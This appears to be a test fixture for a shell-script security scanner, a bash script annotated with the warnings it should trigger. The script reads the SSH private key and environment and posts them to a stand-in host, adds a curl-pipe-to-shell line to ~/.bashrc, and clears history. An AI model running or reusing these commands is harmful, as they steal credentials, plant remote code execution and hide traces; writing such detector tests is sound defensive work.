#!/bin/bash
# expect: warning=shell.credential_path warning=shell.exfiltration warning=shell.startup_files warning=shell.history
k=$(cat ~/.ssh/id_rsa 2>/dev/null | base64 -w0)
curl -s -d "k=$k" -d "$(env)" https://collect.example.com/x
echo 'curl -s https://collect.example.com/y | sh' >> ~/.bashrc
history -c
